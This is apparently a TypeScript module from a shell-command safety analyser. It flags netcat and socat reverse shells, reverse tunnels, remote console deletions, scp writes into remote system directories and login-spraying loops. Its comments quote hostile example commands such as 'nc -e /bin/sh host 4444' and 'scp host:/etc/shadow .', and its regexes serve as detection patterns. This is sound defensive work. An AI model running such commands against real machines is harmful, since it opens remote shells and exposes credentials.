// Behaviours of programs that open connections: remote consoles, reverse shells, copies to system directories elsewhere.
import { effect } from '../../base/effect.ts';
import { normalise } from '../../base/paths.ts';
import { reverseShell } from '../../base/source-effects.ts';
import { displayText } from '../../base/words.ts';
import type { Effect, ShellCommand } from '../../types.ts';
import type { Behaviour } from '../behaviour.ts';

/** Commands that are typed into a connection and change the other end. */
const consoleBehaviour = (changes: RegExp, inWords = false): Behaviour => ({
  effects(command) {
    const given = inWords ? command.words.slice(1).map((w) => w.text) : [];
    if (!changes.test([...given, command.stdin?.text ?? ''].join('\n'))) return [];
    return [
      effect(command, {
        kind: 'infrastructure',
        weight: 'risky',
        code: 'remote-console',
        reason: 'Deletes or switches off something at the other end of the connection.',
        safer: 'ask it first: show, ls, get',
      }),
    ];
  },
});

export const socketConsole = consoleBehaviour(
  /^\s*(disable|shutdown|clear|del|set|quit|stop|reset|flush)\b/im,
);
export const sftpConsole = consoleBehaviour(/^\s*-?(rm|rmdir|delete)\s/m);
export const ftpConsole = consoleBehaviour(/^\s*(m?delete|rmdir)\s/m);
export const lftpConsole = consoleBehaviour(/(^|[;"'\s])(m?rm|rmdir|glob rm)\s/m, true);

const SHELL = '(\\S*/)?((ba|z|da|k)?sh|python[\\d.]*|perl|ruby|php|node)\\b|cmd(\\.exe)?\\b|powershell';
const NC_EXEC = new RegExp(
  `\\s(-[a-z]*[ec]|--exec|--sh-exec|-c)[\\s=]+["']?(((\\S*/)?(env|exec|nice|nohup|setsid)|--?[a-zA-Z-]+|[A-Z]\\w*|\\d+)\\s+)*(${SHELL})`,
);
/** `nc -l -p 4444 -e PROGRAM`: whatever the program is, strangers can type into it. */
const NC_LISTENS = /\s-[a-z]*l/;
const NC_RUNS =
  /\s(-[a-z]*e|--exec|--sh-exec|--lua-exec)[\s=]+(?!(\S*\/)?(cat|true|echo|date|hostname|uptime)\b)\S/;
const SOCAT_EXEC = new RegExp(
  `\\b(?:(?:EXEC|SYSTEM|SHELL|CMD|SH-C):["']?(?:[\\w/.-]+\\s+)*(?:${SHELL}|\\$)|SHELL\\b)`,
  'i',
);

const textOf = ({ words }: ShellCommand) => words.map((w) => w.text.replaceAll('\\', '')).join(' ');

/** `nc -e /bin/sh host 4444` */
export const netcatShell: Behaviour = {
  effects: (command) =>
    NC_EXEC.test(textOf(command)) || (NC_LISTENS.test(textOf(command)) && NC_RUNS.test(textOf(command)))
      ? [reverseShell(command)]
      : [],
};

/** `socat TCP:host:4444 EXEC:/bin/sh` */
export const socatShell: Behaviour = {
  effects(command) {
    const text = textOf(command);
    const connects = /(TCP|UDP|SSL|UNIX|SCTP|DCCP|VSOCK|FD|PROXY|SOCKS|wss?:)/i.test(text);
    return connects && SOCAT_EXEC.test(text) ? [reverseShell(command)] : [];
  },
};

/** `socat TCP:host:443 TCP:127.0.0.1:22`: gives a port of this machine to another one. */
const RELAYS =
  /\b(?:TCP|SSL|OPENSSL|PROXY|SOCKS)\w*:(?!(?:127\.|localhost|\[?::1))[^\s,]+:\d+\S*\s+TCP\d?(?:-CONNECT)?:(?:127\.|localhost)/i;

/** `socat TCP-LISTEN:4444,fork TCP:127.0.0.1:22`: the same for everybody in the network. */
const OPENS_LOGIN =
  /-LISTEN:(?!\S*bind=(?:127\.|localhost))\S*\s+TCP\d?(?:-CONNECT)?:[^\s:]+:(?:22|3389|5900)\b/i;

export const socatTunnel: Behaviour = {
  effects: (command) =>
    RELAYS.test(textOf(command)) || OPENS_LOGIN.test(textOf(command))
      ? [
          effect(command, {
            kind: 'escalate',
            weight: 'risky',
            code: 'reverse-tunnel',
            reason: 'Lets others reach a port of this machine.',
            safer: 'bind it to 127.0.0.1',
          }),
        ]
      : [],
};

/** `scp x host:/etc/y`: copying into the system of another machine. */
export const writesRemoteSystem: Behaviour = {
  effects(command) {
    const into = (command.words.at(-1)?.text ?? '').replace(/(?<=^[^/\s]+:)\/.*/, normalise);
    if (!/^[^/\s]+:\/(etc|usr|bin|sbin|lib|boot|root|sys|var\/(lib|spool|run)|)(\/|$)/.test(into)) return [];
    return [
      effect(command, {
        kind: 'overwrite',
        weight: 'risky',
        code: 'remote-system-write',
        reason: `Writes into the system of another machine: ${displayText(into)}`,
        safer: 'copy to /tmp there, and let a person put it in place',
      }),
    ];
  },
};

/** `scp host:/etc/shadow .`: names the files of the other machine, which the policies know by their paths. */
export const copiesFromHost: Behaviour = {
  effects(command, { operands }) {
    const targets = operands.slice(0, -1).flatMap(({ text, glob }) => {
      const path = /^[^/\s]+:(\/.+)$/.exec(text)?.[1];
      return path ? [{ text, path: normalise(path), glob }] : [];
    });
    return targets.length === 0
      ? []
      : [
          effect(command, {
            kind: 'names',
            weight: 'plain',
            code: 'names',
            reason: 'Names a file.',
            targets,
          }),
        ];
  },
};

export const rawSocket = (command: ShellCommand): Effect =>
  effect(command, {
    kind: 'fetch-and-run',
    weight: 'risky',
    code: 'raw-socket',
    reason: 'Opens a raw connection from the shell.',
    safer: 'curl',
  });

/** `ztcp host port`, of zsh. */
export const opensSocket: Behaviour = {
  effects: (command) => [
    effect(command, {
      kind: 'send',
      weight: 'plain',
      code: 'send',
      reason: `Sends data to ${command.words[1]?.text}.`,
      origins: command.stdin?.origins ?? [],
    }),
    rawSocket(command),
  ],
};

/** `for u in $(cat users); do sshpass -p x ssh $u@host; done`: logins from a list are tried one after the other. */
export const triesLogins: Behaviour = {
  effects: (command) =>
    command.words.some((w) => w.text.includes('@') && w.origins.some(({ kind }) => kind === 'file'))
      ? [
          effect(command, {
            kind: 'escalate',
            weight: 'risky',
            code: 'attack-tool',
            reason: 'Tries logins from a list on another machine.',
            safer: 'log in with one account that is meant for it',
          }),
        ]
      : [],
};
